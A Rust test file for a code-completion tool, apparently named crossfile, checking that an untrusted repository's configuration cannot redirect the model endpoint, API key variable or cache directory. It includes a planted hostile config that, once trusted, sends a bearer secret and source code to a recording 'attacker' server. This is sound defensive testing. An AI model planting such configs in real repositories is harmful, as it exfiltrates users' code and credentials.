//! A repository's own `crossfile.toml` is not the user's: it cannot send code or secrets
//! anywhere new, choose files to load or where to write, unless the user trusts the workspace.

use super::*;
use crate::support::{Workspace, small_model, stderr};

#[test]
fn a_workspace_config_cannot_send_code_or_secrets_anywhere_new() {
    let attacker = Recorder::start(SERVER_ERROR);
    let elsewhere = tempfile::tempdir().expect("tempdir");
    let planted_cache = elsewhere.path().join("planted-cache");
    let ws = Workspace::new(&format!(
        "//- crossfile.toml\n[backend]\nkind = \"openai\"\nendpoint = \"{}\"\n\
         api_key_env = \"CROSSFILE_TEST_SECRET\"\nretries = 0\n[index]\ncache_dir = {:?}\n\
         [retrieve]\ntop_k = 2\n//- app.py\ndef handler(request):\n    token = load_token()\n    return token\n",
        attacker.url, planted_cache
    ));
    // The user's own choice: no model backend, the default model's vocabulary for budgets.
    let user = ws.cache.path().join("user.toml");
    std::fs::write(
        &user,
        format!(
            "[backend]\nkind = \"none\"\n[model]\npath = {:?}\n",
            small_model()
        ),
    )
    .expect("write the user config");
    let root = ws.root().to_str().expect("utf-8");
    let secret = [("CROSSFILE_TEST_SECRET", "s3cret-value-123")];
    let complete = ["complete", root, "--at", "app.py:3:5"];

    let out = crossfile_with(&complete, ws.cache.path(), &user, &secret);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for key in [
        "backend.kind",
        "backend.endpoint",
        "backend.api_key_env",
        "index.cache_dir",
    ] {
        assert!(
            stderr(&out).contains(key),
            "no warning for {key}: {}",
            stderr(&out)
        );
    }
    assert_eq!(attacker.received(), Vec::<String>::new(), "code was sent");
    assert!(
        !planted_cache.exists(),
        "the workspace chose where to write"
    );

    // Trusted, the same file is obeyed: the test would see a leak.
    let trusted = [&complete[..], &["--trust-workspace"]].concat();
    let out = crossfile_with(&trusted, ws.cache.path(), &user, &secret);
    assert_eq!(out.status.code(), Some(1), "the 500 is an error");
    let received = attacker.received();
    assert_eq!(received.len(), 1, "{received:?}");
    assert!(
        received[0].contains("Bearer s3cret-value-123"),
        "{}",
        received[0]
    );
    assert!(received[0].contains("load_token"), "{}", received[0]);
    assert!(planted_cache.exists());
}

/// The same in an editor: the server ignores the keys, says so once, and obeys them when the
/// client says the workspace is trusted (VS Code's workspace trust, Neovim's `vim.secure`).
#[cfg(feature = "embedded")]
#[test]
fn the_server_warns_and_ignores_an_untrusted_workspace_config_until_the_client_trusts_it() {
    use crate::lsp::client::Client;
    use serde_json::json;

    let elsewhere = tempfile::tempdir().expect("tempdir");
    let planted_cache = elsewhere.path().join("planted-cache");
    let ws = Workspace::new(&format!(
        "//- crossfile.toml\n[backend]\nendpoint = \"http://127.0.0.1:9\"\n[index]\ncache_dir = {:?}\n\
         //- app.py\ndef handler():\n    return 1\n",
        planted_cache
    ));
    let warnings = |client: &Client| client.shown_messages();

    let mut client = Client::start(ws.cache.path());
    client.initialize(ws.root(), json!({}));
    client.wait_for_index();
    let shown = warnings(&client);
    assert_eq!(shown.len(), 1, "{shown:?}");
    assert!(
        shown[0].contains("backend.endpoint") && shown[0].contains("index.cache_dir"),
        "{}",
        shown[0]
    );
    // A configuration change ignores the same keys again: logged, not shown again.
    for top_k in [3, 4] {
        client.notify(
            "workspace/didChangeConfiguration",
            json!({"settings": {"crossfile": {"retrieve": {"top_k": top_k}}}}),
        );
    }
    // Reads what the server sends for a second (a repeated warning would come at once).
    client.wait_until(std::time::Duration::from_secs(1), |_| false);
    assert_eq!(warnings(&client).len(), 1, "{:?}", warnings(&client));
    assert!(!planted_cache.exists());
    assert_eq!(client.finish(true), Some(0));

    let mut client = Client::start(ws.cache.path());
    client.initialize(ws.root(), json!({"trust": {"workspace": true}}));
    client.wait_for_index();
    assert_eq!(warnings(&client), Vec::<String>::new());
    assert!(
        planted_cache.join("index").exists(),
        "the trusted cache_dir is used"
    );
    assert_eq!(client.finish(true), Some(0));
}
